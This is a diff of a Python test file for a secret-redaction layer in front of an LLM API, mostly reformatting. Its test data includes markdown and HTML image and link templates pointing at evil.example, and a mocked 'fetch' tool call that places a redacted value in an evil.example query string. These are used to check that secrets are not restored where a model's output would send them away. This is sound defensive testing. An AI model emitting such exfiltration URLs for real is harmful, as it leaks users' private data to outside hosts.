@@ -38,9 +38,7 @@ def tool_arguments(face, client, *, api, stream, text=SAID):
     """Return the argument texts of the tool calls of an answer."""
     if api == "chat":
         made = face.run(
-            client.chat.completions.create(
-                model="gpt-4o", messages=[{"role": "user", "content": text}], stream=stream
-            )
+            client.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": text}], stream=stream)
         )
         if not stream:
             return [call.function.arguments for call in made.choices[0].message.tool_calls or ()]
@@ -122,9 +120,7 @@ VALUES = [
 @APIS
 @STREAMED
 @pytest.mark.parametrize("value", VALUES, ids=["quotes", "newlines", "injection", "surrogates", "escapes", "html"])
-def test_r_6_value_in_a_declared_tool_parameter_keeps_the_json_whole(
-    face, provider, api, stream, value, monkeypatch
-):
+def test_r_6_value_in_a_declared_tool_parameter_keeps_the_json_whole(face, provider, api, stream, value, monkeypatch):
     """A declared parameter gets the real value, written as JSON; an undeclared one keeps the placeholder."""
     secret = value.format(canary=make_canary())
     monkeypatch.setattr(safellm.client, "_registered", None)
@@ -134,7 +130,9 @@ def test_r_6_value_in_a_declared_tool_parameter_keeps_the_json_whole(
     def reply(request):
         hidden = placeholders(request)[0]
         arguments = {"body": f"it is {hidden}.", "to": hidden, "n": [1, hidden], "body2": hidden}
-        return Reply(tool_calls=(ToolCall(name="send", arguments=arguments), ToolCall(name="other", arguments=arguments)))
+        return Reply(
+            tool_calls=(ToolCall(name="send", arguments=arguments), ToolCall(name="other", arguments=arguments))
+        )
 
     provider.reply_with(reply)
     send, other = map(json.loads, tool_arguments(face, client, api=api, stream=stream, text=f"say {secret}"))
@@ -169,7 +167,7 @@ EXPOSED = [
     "[a]: https://evil.example/P\n[a]",
     '<img src="https://evil.example/P">',
     "<img src=x alt='P'>",
-    '<a href=P>x</a>',
+    "<a href=P>x</a>",
     "www.evil.example/P",
     "P.evil.example/x",
     "mailto:P",
@@ -188,7 +186,20 @@ def test_r_7_value_is_not_restored_where_it_would_be_sent_away(face, client, pro
     assert told == template.replace("P", placeholders(provider.requests[0])[0])
 
 
-READ = ["P", "Mail P.", "(P)", "**P**", "`P`", "- P\n- P", '"P"', "P, P; P!", "a | P | b", "1 < 2 and P", "to:P", "Alice <P>"]
+READ = [
+    "P",
+    "Mail P.",
+    "(P)",
+    "**P**",
+    "`P`",
+    "- P\n- P",
+    '"P"',
+    "P, P; P!",
+    "a | P | b",
+    "1 < 2 and P",
+    "to:P",
+    "Alice <P>",
+]
 
 
 @APIS
@@ -218,7 +229,9 @@ def test_r_7_declared_tool_parameter_that_is_a_url_keeps_the_placeholder(face, p
     client = face.client(provider, safellm={"redaction.restore_tool_arguments": ["*.*"]})
     provider.reply_with(
         lambda request: Reply(
-            tool_calls=(ToolCall(name="fetch", arguments={"url": f"https://evil.example/?q={placeholders(request)[0]}"}),)
+            tool_calls=(
+                ToolCall(name="fetch", arguments={"url": f"https://evil.example/?q={placeholders(request)[0]}"}),
+            )
         )
     )
     (arguments,) = tool_arguments(face, client, api=api, stream=stream)
@@ -230,9 +243,7 @@ def test_r_7_declared_tool_parameter_that_is_a_url_keeps_the_placeholder(face, p
 def test_r_3_forged_placeholders_are_not_restored(sync, provider, api):
     """A model that guesses gets nothing."""
     guess = random.Random(7)
-    forged = [
-        f"{PREFIX}EMAIL-" + "".join(guess.choices("0123456789ABCDEFGHJKMNPQRSTVWXYZ", k=16)) for _ in range(2000)
-    ]
+    forged = [f"{PREFIX}EMAIL-" + "".join(guess.choices("0123456789ABCDEFGHJKMNPQRSTVWXYZ", k=16)) for _ in range(2000)]
     provider.reply_with(" ".join(forged))
     assert sync.ask(sync.client(provider), SAID, api=api) == " ".join(forged)
 
